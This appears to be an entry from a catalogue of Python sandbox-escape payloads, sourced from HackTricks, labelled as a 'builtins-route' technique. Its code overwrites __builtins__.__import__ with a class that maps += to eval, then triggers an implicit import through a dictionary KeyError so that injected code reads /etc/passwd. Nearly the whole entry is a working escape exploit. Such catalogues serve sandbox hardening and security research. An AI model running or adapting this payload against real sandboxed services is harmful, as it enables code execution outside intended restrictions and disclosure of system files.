# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (treebox: __builtins__.__import__ = X; {}[1337])
# Family: builtins-route
# What: overwrites __builtins__.__import__ so a later implicit import runs attacker code
class X:
    def __init__(self, a, b, c, d, e):
        self += "print(open('/etc/passwd').read())"
    __iadd__ = eval

__builtins__.__import__ = X
{}[1337]
